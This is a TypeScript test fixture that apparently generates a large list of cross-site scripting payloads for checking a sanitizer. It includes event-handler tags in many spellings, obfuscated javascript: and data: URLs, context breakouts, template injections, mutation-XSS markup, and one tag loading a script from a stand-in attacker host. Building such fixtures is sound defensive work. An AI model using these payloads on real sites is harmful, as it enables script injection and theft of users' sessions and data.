/** Runs when a text is parsed as markup or code: it calls `hostile()`, which a test listens to (RELIABILITY BR1). */
const CALL = 'hostile()'

/** Elements that run something at once or on an event. */
const RUNNERS: [tag: string, rest: string, event: string][] = [
	['img', 'src=x', 'onerror'],
	['svg', '', 'onload'],
	['body', '', 'onload'],
	['video', 'src=x', 'onerror'],
	['audio', 'src=x', 'onerror'],
	['source', 'src=x', 'onerror'],
	['iframe', 'src=about:blank', 'onload'],
	['object', 'data=x', 'onerror'],
	['embed', 'src=x', 'onload'],
	['details', 'open', 'ontoggle'],
	['input', 'autofocus', 'onfocus'],
	['select', 'autofocus', 'onfocus'],
	['textarea', 'autofocus', 'onfocus'],
	['div', 'tabindex=0 contenteditable autofocus', 'onfocus'],
	['marquee', '', 'onstart'],
	['p', 'style=animation:spin 1s', 'onanimationstart'],
	['math', '', 'onmouseover'],
	['x', 'id=x tabindex=1', 'onfocusin'],
	['style', '', 'onload'],
	['link', 'rel=stylesheet href=/x.css', 'onerror'],
]

/** Variants of a tag that browsers also accept. */
const SPELLINGS: ((tag: string, rest: string, event: string) => string)[] = [
	(tag, rest, event) => `<${tag} ${rest} ${event}=${CALL}>`,
	(tag, rest, event) => `<${tag.toUpperCase()} ${rest} ${event.toUpperCase()}="${CALL}">`,
	(tag, rest, event) => `<${tag}/${rest.replaceAll(' ', '/')}/${event}=${CALL}//`,
	(tag, rest, event) => `<${tag}\n${rest}\t${event}\n=\n'${CALL}'`,
	(tag, rest, event) => `"><${tag} ${rest} ${event}=\`${CALL}\`>`,
	(tag, rest, event) => `<${tag} ${rest} ${event}=&#104;ostile&lpar;&rpar;>`,
	(tag, rest, event) => `<<${tag} title="<${tag} ${rest} ${event}=${CALL}>" ${rest} ${event}=${CALL}>>`,
]

/** Variants of a script URL that filters have missed. */
const ADDRESSES = [
	`javascript:${CALL}`,
	`JaVaScRiPt:${CALL}`,
	` javascript:${CALL}`,
	`java\tscript:${CALL}`,
	`java\nscript:${CALL}`,
	`\u0001javascript:${CALL}`,
	`javascript&colon;${CALL}`,
	`&#106;avascript:${CALL}`,
	`&#x6A&#x61&#x76&#x61script:${CALL}`,
	`java&NewLine;script:${CALL}`,
	`javascript://x%0a${CALL}`,
	`vbscript:${CALL}`,
	`data:text/html,<script>${CALL}</script>`,
	`data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=`,
	`data:image/svg+xml,<svg onload=${CALL}>`,
	`feed:javascript:${CALL}`,
]

const CARRIERS: ((address: string) => string)[] = [
	(address) => `<a href="${address}">x</a>`,
	(address) => `<img src="${address}">`,
	(address) => `<iframe src="${address}"></iframe>`,
	(address) => `<form action="${address}"><button>x</button></form>`,
	(address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
	(address) => `<meta http-equiv=refresh content="0;url=${address}">`,
	(address) => `<object data="${address}"></object>`,
]

/** Texts that break out of their context: a script, a comment, an attribute, a template, JSON data in the page. */
const ESCAPES = [
	`<script>${CALL}</script>`,
	`<script src=data:text/javascript,${CALL}></script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`</script><script>${CALL}</script>`,
	`</script ><img src=x onerror=${CALL}>`,
	`<!--<script>-->${CALL}`,
	`--><script>${CALL}</script><!--`,
	`]]><script>${CALL}</script>`,
	`<![CDATA[<script>${CALL}</script>]]>`,
	`</title><script>${CALL}</script>`,
	`</textarea><script>${CALL}</script>`,
	`</style><script>${CALL}</script>`,
	`</noscript><script>${CALL}</script>`,
	`</template><script>${CALL}</script>`,
	`" autofocus onfocus="${CALL}`,
	`' autofocus onfocus='${CALL}`,
	`";${CALL};//`,
	`';${CALL};//`,
	`\\";${CALL};//`,
	`\u2028${CALL}\u2029`,
	`\u2028</script\u2029><script>${CALL}//`,
	`{{constructor.constructor('${CALL}')()}}`,
	`\${${CALL}}`,
	`#{${CALL}}`,
	`<%= ${CALL} %>`,
	`{"__proto__":{"html":"<img src=x onerror=${CALL}>"}}`,
	`$R[0]=${CALL}`,
	`+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
	`%3Cscript%3E${CALL}%3C/script%3E`,
	`&lt;img src=x onerror=${CALL}&gt;`,
]

/** Markup that changes when it is parsed a second time. */
const MUTATIONS = [
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
	`<math><mtext><table><mglyph><style><math><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
	`<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
	`<svg><style><img src=x onerror=${CALL}></style></svg>`,
	`<svg><desc><noscript></desc><img src=x onerror=${CALL}></noscript></svg>`,
	`<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
	`<textarea><img title="</textarea><img src=x onerror=${CALL}>"></textarea>`,
	`<xmp><p title="</xmp><img src=x onerror=${CALL}>"></xmp>`,
	`<noembed><img title="</noembed><img src=x onerror=${CALL}>"></noembed>`,
	`<iframe><img title="</iframe><img src=x onerror=${CALL}>"></iframe>`,
	`<select><template><img src=x onerror=${CALL}></template></select>`,
	`<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
	`<p><svg><title><p title="</title><img src=x onerror=${CALL}>"></svg>`,
	`<a href="/x" title='"><img src=x onerror=${CALL}>'>x</a>`,
	`<img alt="\`><img src=x onerror=${CALL}>" src=/art/new.svg>`,
	`<table><td background="javascript:${CALL}"><caption><img src=x onerror=${CALL}></table>`,
	`<svg><animate attributeName=href values=javascript:${CALL} /><a id=a><text>x</text></a>`,
	`<svg><set attributeName=onmouseover to=${CALL}>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${CALL}</script></svg>#x">`,
	`<style>@import "javascript:${CALL}"; *{background:url(javascript:${CALL})}</style>`,
	`<p style="background:url(javascript:${CALL});behavior:url(x.htc);width:expression(${CALL})">`,
	`<base href="javascript:/x/"><a href="${CALL}">x</a>`,
	`<portal src=javascript:${CALL}></portal>`,
	`<plaintext><img src=x onerror=${CALL}>`,
]

export const HOSTILE_TEXTS: readonly string[] = [
	...RUNNERS.flatMap((runner) => SPELLINGS.map((spell) => spell(...runner))),
	...ADDRESSES.flatMap((address) => CARRIERS.map((carry) => carry(address))),
	...ESCAPES,
	...MUTATIONS,
]
